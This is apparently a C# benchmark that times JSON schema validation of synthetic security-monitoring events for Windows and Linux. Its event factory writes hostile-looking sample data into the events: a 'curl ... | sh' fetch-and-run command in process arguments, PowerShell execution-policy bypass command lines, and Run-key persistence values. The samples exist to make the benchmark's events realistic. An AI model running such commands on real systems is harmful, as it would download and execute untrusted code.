using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.Globalization;
using System.IO;
using System.Linq;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using CsmEvents.Schema;

namespace CsmEvents.Bench;

/// <summary>
/// Schema validation throughput on realistic events (2-4 KB, with ancestor chains, 5% carrying one violation).
/// In one run it measures the floor — a raw Utf8JsonReader scan of the same bytes — and then
/// JsonDocument.Parse + Validate with full error detail, against the embedded Windows schema and Datadog's
/// backend_linux.schema.json. Options: --events N (per platform, default 20000), --seconds S per round (default 1),
/// --rounds R (default 8, the best round counts), --linux-schema PATH
/// (default ../shared/datadog-agent-schemas/backend_linux.schema.json).
/// </summary>
public static class ValidationBench
{
    public static int Run(string[] args)
    {
        int count = BenchOptions.Int(args, "--events", 20_000);
        double seconds = BenchOptions.Double(args, "--seconds", 1);
        int rounds = BenchOptions.Int(args, "--rounds", 8);
        string linuxSchemaPath = BenchOptions.String(args, "--linux-schema") ?? DefaultLinuxSchemaPath();

        var windows = EventFactory.Windows(count, seed: 7);
        var linux = EventFactory.Linux(count, seed: 11);
        Console.WriteLine($"events: {count} Windows (avg {windows.Average(e => e.Length):F0} bytes), {count} Linux (avg {linux.Average(e => e.Length):F0} bytes), 5% with one violation");
        Console.WriteLine($"runtime: .NET {Environment.Version}, {Environment.ProcessorCount} cores, one thread, best of {rounds} rounds of {seconds:F1} s per measurement, rounds interleaved");
        Console.WriteLine();

        var windowsSchema = EmbeddedSchemas.Get("windows");
        CompiledSchema? linuxSchema = File.Exists(linuxSchemaPath) ? SchemaCompiler.CompileFile(linuxSchemaPath) : null;

        var cases = new List<Case>
        {
            new("Utf8JsonReader scan (floor), Windows events", windows, ReaderScan, counts: false),
            new("JsonDocument.Parse only, Windows events", windows, ParseOnly, counts: false),
            new("Parse + Validate (full errors), embedded windows schema", windows, bytes => ParseAndValidate(bytes, windowsSchema), counts: true),
            new("Parse + IsValid (verdict only), embedded windows schema", windows, bytes => ParseAndCheck(bytes, windowsSchema), counts: true),
            new("Utf8JsonReader scan (floor), Linux events", linux, ReaderScan, counts: false),
        };
        if (linuxSchema != null)
        {
            cases.Add(new("JsonDocument.Parse only, Linux events", linux, ParseOnly, counts: false));
            cases.Add(new("Parse + Validate (full errors), backend_linux.schema.json", linux, bytes => ParseAndValidate(bytes, linuxSchema), counts: true));
            cases.Add(new("Parse + IsValid (verdict only), backend_linux.schema.json", linux, bytes => ParseAndCheck(bytes, linuxSchema), counts: true));
        }
        else Console.WriteLine("backend_linux.schema.json not found at " + linuxSchemaPath + ": Linux schema rows skipped");

        // Rounds rotate through all cases, and each keeps its best round: on a shared machine every case then
        // gets the same chances of running undisturbed, which keeps the ratios between rows meaningful.
        foreach (var c in cases) c.WarmUp();
        for (int round = 0; round < rounds; round++)
        {
            foreach (var c in cases) c.RunRound(seconds);
        }
        // Two views of each rate: wall clock (what a user waits for, but slowed whenever other processes take the
        // CPU away) and per CPU second of the benchmark thread (the engine's own cost, stable on a busy machine).
        Console.WriteLine("| measurement | events/s (wall) | MB/s (wall) | events per CPU s | MB per CPU s | invalid found |");
        Console.WriteLine("|---|---:|---:|---:|---:|---:|");
        foreach (var c in cases)
        {
            double mb = c.AverageBytes / (1024 * 1024);
            Console.WriteLine($"| {c.Name} | {Format(c.Best, "N0")} | {Format(c.Best * mb, "F1")} | {Format(c.BestPerCpuSecond, "N0")} | {Format(c.BestPerCpuSecond * mb, "F1")} | {c.Note} |");
        }
        return 0;
    }

    // Each measured function returns 1 when the event was found invalid (0 otherwise) so the work cannot be skipped.
    private static int ReaderScan(byte[] bytes)
    {
        var reader = new Utf8JsonReader(bytes);
        int tokens = 0;
        while (reader.Read()) tokens++;
        return tokens == 0 ? 1 : 0;
    }

    private static int ParseOnly(byte[] bytes)
    {
        using var document = JsonDocument.Parse(bytes);
        return document.RootElement.ValueKind == JsonValueKind.Object ? 0 : 1;
    }

    private static int ParseAndValidate(byte[] bytes, CompiledSchema schema)
    {
        using var document = JsonDocument.Parse(bytes);
        var result = schema.Validate(document.RootElement, SchemaValidationOptions.Events);
        return result.IsValid ? 0 : 1;
    }

    private static int ParseAndCheck(byte[] bytes, CompiledSchema schema)
    {
        using var document = JsonDocument.Parse(bytes);
        return schema.IsValid(document.RootElement, SchemaValidationOptions.Events) ? 0 : 1;
    }

    private sealed class Case
    {
        private readonly byte[][] _events;
        private readonly Func<byte[], int> _work;
        private readonly bool _counts;
        private int _invalid;

        public Case(string name, byte[][] events, Func<byte[], int> work, bool counts)
        {
            Name = name;
            _events = events;
            _work = work;
            _counts = counts;
            AverageBytes = events.Average(e => (double)e.Length);
        }

        public string Name { get; }
        public double AverageBytes { get; }
        public double Best { get; private set; }
        public string Note => _counts ? _invalid.ToString(CultureInfo.InvariantCulture) + " of " + _events.Length.ToString(CultureInfo.InvariantCulture) : "-";

        /// <summary>One full pass for JIT and caches; it also counts the invalid events, so the work cannot be skipped.</summary>
        public void WarmUp()
        {
            _invalid = 0;
            foreach (var e in _events) _invalid += _work(e);
        }

        /// <summary>Best rate per CPU second of this thread (NaN where the OS clock is unavailable).</summary>
        public double BestPerCpuSecond { get; private set; } = double.NaN;

        public void RunRound(double seconds)
        {
            double cpuStart = ThreadCpu.Seconds();
            var watch = Stopwatch.StartNew();
            long done = 0;
            while (watch.Elapsed.TotalSeconds < seconds)
            {
                foreach (var e in _events) _work(e);
                done += _events.Length;
            }
            watch.Stop();
            double cpu = ThreadCpu.Seconds() - cpuStart;
            double rate = done / watch.Elapsed.TotalSeconds;
            if (rate > Best) Best = rate;
            if (!double.IsNaN(cpu) && cpu > 0)
            {
                double cpuRate = done / cpu;
                if (double.IsNaN(BestPerCpuSecond) || cpuRate > BestPerCpuSecond) BestPerCpuSecond = cpuRate;
            }
            Console.Error.WriteLine($"  {Name}: {rate:N0} events/s wall, {done / cpu:N0} events per CPU second");
        }
    }

    private static string Format(double value, string format) =>
        double.IsNaN(value) ? "n/a" : value.ToString(format, CultureInfo.InvariantCulture);

    private static string DefaultLinuxSchemaPath()
    {
        for (var dir = new DirectoryInfo(AppContext.BaseDirectory); dir != null; dir = dir.Parent)
        {
            if (File.Exists(Path.Combine(dir.FullName, "CsmEvents.slnx")))
            {
                return Path.GetFullPath(Path.Combine(dir.FullName, "..", "shared", "datadog-agent-schemas", "backend_linux.schema.json"));
            }
        }
        return "backend_linux.schema.json";
    }

    /// <summary>Realistic Windows and current-format Linux events, deterministic per seed.</summary>
    internal static class EventFactory
    {
        private static readonly string[] WindowsImages =
        {
            "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\explorer.exe",
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\reg.exe",
            "C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\wininit.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        };

        private static readonly string[] LinuxImages =
        {
            "/usr/bin/bash", "/usr/bin/dash", "/usr/sbin/nginx", "/usr/bin/curl", "/usr/bin/python3.11", "/usr/lib/systemd/systemd",
            "/usr/sbin/sshd", "/usr/bin/containerd-shim-runc-v2", "/usr/local/bin/node", "/usr/bin/cat",
        };

        public static byte[][] Windows(int count, int seed)
        {
            var random = new Random(seed);
            var events = new byte[count][];
            for (int i = 0; i < count; i++)
            {
                var evt = WindowsEvent(random, i);
                if (random.Next(100) < 5) InjectViolation(evt, random);
                events[i] = Encoding.UTF8.GetBytes(evt.ToJsonString());
            }
            return events;
        }

        public static byte[][] Linux(int count, int seed)
        {
            var random = new Random(seed);
            var events = new byte[count][];
            for (int i = 0; i < count; i++)
            {
                var evt = LinuxEvent(random, i);
                if (random.Next(100) < 5) InjectViolation(evt, random);
                events[i] = Encoding.UTF8.GetBytes(evt.ToJsonString());
            }
            return events;
        }

        private static JsonObject WindowsEvent(Random random, int i)
        {
            string[] kinds = { "exec", "create", "write", "set_key_value", "delete" };
            string kind = kinds[random.Next(kinds.Length)];
            var process = WindowsProcess(random, depth: 0);
            int ancestors = 3 + random.Next(5);
            var chain = new JsonArray();
            for (int a = 0; a < ancestors; a++) chain.Add(WindowsProcess(random, a + 1));
            process["parent"] = chain[0]!.DeepClone();
            process["ancestors"] = chain;
            var evt = new JsonObject
            {
                ["agent"] = new JsonObject
                {
                    ["rule_id"] = "rule_" + random.Next(40), ["rule_version"] = "1." + random.Next(9), ["policy_name"] = "windows_default",
                    ["policy_version"] = "1.4.0", ["version"] = "7.61.0", ["os"] = "windows", ["arch"] = "x64", ["origin"] = "etw",
                },
                ["title"] = "Suspicious " + kind + " activity detected by rule " + random.Next(40),
                ["evt"] = new JsonObject { ["name"] = kind, ["category"] = kind == "exec" ? "Process Activity" : "File Activity", ["outcome"] = "unknown" },
                ["date"] = Date(random),
            };
            if (kind == "set_key_value")
            {
                evt["registry"] = new JsonObject { ["key_name"] = "Run", ["key_path"] = "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", ["value_name"] = "Updater" + random.Next(99) };
            }
            else
            {
                string path = kind == "exec" ? WindowsImages[random.Next(WindowsImages.Length)] : "C:\\Users\\user" + random.Next(50) + "\\AppData\\Local\\Temp\\payload" + random.Next(1000) + ".dll";
                evt["file"] = new JsonObject { ["path"] = path, ["device_path"] = "\\Device\\HarddiskVolume3" + path.Substring(2), ["name"] = Path.GetFileName(path.Replace('\\', '/')) };
            }
            evt["process"] = process;
            evt["usr"] = new JsonObject { ["name"] = "CONTOSO\\user" + random.Next(50), ["sid"] = "S-1-5-21-1004336348-1177238915-682003330-" + (1000 + random.Next(500)) };
            return evt;
        }

        private static JsonObject WindowsProcess(Random random, int depth)
        {
            string image = WindowsImages[random.Next(WindowsImages.Length)];
            return new JsonObject
            {
                ["pid"] = 1000 + random.Next(30000), ["ppid"] = 4 + random.Next(30000),
                ["exec_time"] = Date(random),
                ["executable"] = new JsonObject { ["path"] = image, ["device_path"] = "\\Device\\HarddiskVolume3" + image.Substring(2), ["name"] = Path.GetFileName(image.Replace('\\', '/')) },
                ["cmdline"] = image + " -arg" + random.Next(100) + (depth == 0 ? " -NoProfile -ExecutionPolicy Bypass" : ""),
                ["user"] = depth > 2 ? "NT AUTHORITY\\SYSTEM" : "CONTOSO\\user" + random.Next(50),
            };
        }

        private static JsonObject LinuxEvent(Random random, int i)
        {
            string[] kinds = { "exec", "open", "chmod", "unlink", "connect" };
            string kind = kinds[random.Next(kinds.Length)];
            var process = LinuxProcess(random, 0, full: true);
            int ancestors = 2 + random.Next(3);
            var chain = new JsonArray();
            for (int a = 0; a < ancestors; a++) chain.Add(LinuxProcess(random, a + 1, full: false));
            process["parent"] = chain[0]!.DeepClone();
            process["ancestors"] = chain;
            var evt = new JsonObject
            {
                ["agent"] = new JsonObject
                {
                    ["rule_id"] = "rule_" + random.Next(40), ["rule_version"] = "2", ["policy_name"] = "default", ["policy_version"] = "7.61.0",
                    ["version"] = "7.61.0", ["os"] = "linux", ["arch"] = "x86_64", ["origin"] = "ebpf", ["kernel_version"] = "6.1.0-31-amd64", ["distribution"] = "debian",
                },
                ["title"] = "Suspicious " + kind + " activity detected by rule " + random.Next(40),
                ["evt"] = new JsonObject { ["name"] = kind, ["category"] = kind == "exec" ? "Process Activity" : "File Activity", ["outcome"] = "Success" },
                ["date"] = Date(random),
            };
            if (kind != "connect") evt["file"] = LinuxFile(random, "/etc/app" + random.Next(100) + "/config.yaml", detailed: true);
            evt["process"] = process;
            if (random.Next(3) == 0) evt["container"] = new JsonObject { ["id"] = Hex(random, 64), ["created_at"] = Date(random) };
            evt["usr"] = new JsonObject { ["id"] = "www-data", ["group"] = "www-data" };
            return evt;
        }

        private static JsonObject LinuxProcess(Random random, int depth, bool full)
        {
            string image = LinuxImages[random.Next(LinuxImages.Length)];
            var process = new JsonObject
            {
                ["pid"] = 100 + random.Next(60000), ["ppid"] = 1 + random.Next(60000), ["tid"] = 100 + random.Next(60000),
                ["uid"] = depth > 2 ? 0 : 33, ["gid"] = depth > 2 ? 0 : 33, ["user"] = depth > 2 ? "root" : "www-data", ["group"] = depth > 2 ? "root" : "www-data",
                ["comm"] = Path.GetFileName(image), ["fork_time"] = Date(random), ["exec_time"] = Date(random),
            };
            if (full)
            {
                process["credentials"] = new JsonObject
                {
                    ["uid"] = 33, ["user"] = "www-data", ["gid"] = 33, ["group"] = "www-data", ["euid"] = 33, ["euser"] = "www-data", ["egid"] = 33, ["egroup"] = "www-data",
                    ["fsuid"] = 33, ["fsuser"] = "www-data", ["fsgid"] = 33, ["fsgroup"] = "www-data", ["auid"] = 4294967295L,
                    ["cap_effective"] = new JsonArray(), ["cap_permitted"] = new JsonArray("CAP_NET_BIND_SERVICE"),
                };
                process["argv0"] = Path.GetFileName(image);
                process["args"] = new JsonArray("-c", "curl -s http://10.0.0." + random.Next(255) + "/x | sh");
            }
            process["executable"] = LinuxFile(random, image, detailed: full);
            process["is_thread"] = random.Next(2) == 0;
            process["source"] = "event";
            return process;
        }

        private static JsonObject LinuxFile(Random random, string path, bool detailed)
        {
            var file = new JsonObject
            {
                ["path"] = path, ["name"] = Path.GetFileName(path), ["inode"] = 100000 + random.Next(9000000), ["mode"] = 33261, ["mount_id"] = 27,
                ["filesystem"] = "ext4", ["uid"] = 0, ["gid"] = 0, ["user"] = "root", ["group"] = "root",
                ["modification_time"] = Date(random), ["change_time"] = Date(random),
            };
            if (detailed)
            {
                file["package_name"] = "pkg" + random.Next(300);
                file["package_version"] = "1." + random.Next(20) + "." + random.Next(9);
                file["hashes"] = new JsonArray("sha256:" + Hex(random, 64));
                file["hash_state"] = "Done";
            }
            return file;
        }

        private static void InjectViolation(JsonObject evt, Random random)
        {
            switch (random.Next(4))
            {
                case 0: evt["process"]!["pid"] = "not-a-number"; break;
                case 1: evt["process"]!["ancestors"]![0]!["unexpected_field"] = true; break;
                case 2: evt["agent"]!.AsObject().Remove("rule_id"); break;
                default: evt["date"] = "2025-02-30T10:00:00Z"; break;
            }
        }

        private static string Date(Random random)
        {
            var instant = new DateTime(2025, 1, 1, 0, 0, 0, DateTimeKind.Utc).AddSeconds(random.Next(30_000_000));
            return instant.ToString("yyyy-MM-dd'T'HH:mm:ss", CultureInfo.InvariantCulture) + "." + random.Next(100_000_000, 999_999_999).ToString(CultureInfo.InvariantCulture) + "Z";
        }

        private static string Hex(Random random, int length)
        {
            var sb = new StringBuilder(length);
            for (int i = 0; i < length; i++) sb.Append("0123456789abcdef"[random.Next(16)]);
            return sb.ToString();
        }
    }
}
